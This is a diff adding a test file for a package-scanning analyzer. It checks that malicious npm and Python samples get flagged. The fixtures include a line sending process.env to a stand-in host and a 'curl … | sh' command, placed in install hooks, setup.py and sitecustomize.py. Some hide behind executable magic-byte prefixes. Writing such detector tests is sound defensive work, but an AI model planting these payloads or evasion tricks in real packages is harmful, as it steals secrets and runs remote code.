@@ -1,0 +1,102 @@
+import type { Verdict } from '@sallyport/domain';
+import type { Sample } from '../rules/sample';
+import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
+import { analyzeArtifact } from './analyze-artifact';
+
+const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));\n`;
+const PY = `import os\nos.system('curl https://x.invalid | sh')\n`;
+/** `cefaedfe` is the start of a Mach-O program, and a name of four letters in Latin-1. */
+const MACH_O_NAME = 'cefaedfe';
+
+type Case = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: Verdict, ...rules: string[]];
+
+const hook = (command: string, files: Sample['files']): Omit<Sample, 'what'> => ({
+  format: 'tarball',
+  manifest: { scripts: { postinstall: command } },
+  files,
+});
+
+/** What would read as harmless if a reader took the beginning of a file for the whole of it. */
+const BEGINS_AS_MACHINE_CODE: readonly Case[] = [
+  ['the script of a hook', hook('node x.js', { 'x.js': `MZ=0;${JS}` }), 'malicious', 'hook-network-acts'],
+  [
+    'a file that node is told to run',
+    hook('node x', { x: `MZ/*\0*/=0;${JS}` }),
+    'malicious',
+    'hook-network-acts',
+  ],
+  ['a build', { format: 'sdist', files: { 'setup.py': `MZ = 0\n${PY}` } }, 'malicious', 'build-network'],
+  [
+    'a build in another coding',
+    { format: 'sdist', files: { 'setup.py': { hex: MACH_O_NAME, then: ` = 0 # coding: latin1\n${PY}` } } },
+    'malicious',
+    'build-network',
+  ],
+  [
+    'what Python runs at every start',
+    { format: 'wheel', files: { 'sitecustomize.py': `MZ = 0\n${PY}` } },
+    'malicious',
+    'autoload-payload',
+  ],
+  [
+    'the main file, under any name',
+    { format: 'tarball', manifest: { main: 'x.dat' }, files: { 'x.dat': `MZ=0;${JS}` } },
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'the main file, with zeros in it',
+    { format: 'tarball', manifest: { main: 'x' }, files: { x: `MZ/*\0*/=0;${JS}` } },
+    'malicious',
+    'code-secret-sent',
+  ],
+  [
+    'what another file loads',
+    { format: 'tarball', files: { 'index.js': `require('./x')`, x: `MZ/*\0*/=0;${JS}` } },
+    'malicious',
+    'code-secret-sent',
+  ],
+];
+
+const ARCHIVES: readonly Case[] = [
+  [
+    'faults behind names that are only odd',
+    {
+      format: 'tarball',
+      entries: [
+        ...Array.from({ length: 60 }, (_, at) => ({ name: `package/${at}:x`, content: 'x' })),
+        { name: 'package/../../x', content: 'x' },
+      ],
+    },
+    'suspicious',
+    'archive-unsafe-path',
+  ],
+  [
+    'where the reading ended, behind names that are only odd',
+    {
+      format: 'tarball',
+      entries: [
+        ...Array.from({ length: 60 }, (_, at) => ({ name: `package/${at}:x`, content: 'x' })),
+        { name: 'package/x', content: '0'.repeat(40 * 1024 * 1024) },
+      ],
+    },
+    'unknown',
+    'archive-limit-exceeded',
+  ],
+];
+
+describe.each([
+  ['what begins like machine code', BEGINS_AS_MACHINE_CODE],
+  ['an archive', ARCHIVES],
+])('%s, and nothing of it in silence', (_, cases) => {
+  it.each(cases)('%s', async (what, sample, verdict, ...rules) => {
+    const whole = { what, ...sample };
+
+    const analysis = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));
+
+    expect([analysis.verdict, analysis.findings.map(({ rule }) => rule)]).toEqual([
+      verdict,
+      expect.arrayContaining(rules),
+    ]);
+  });
+});
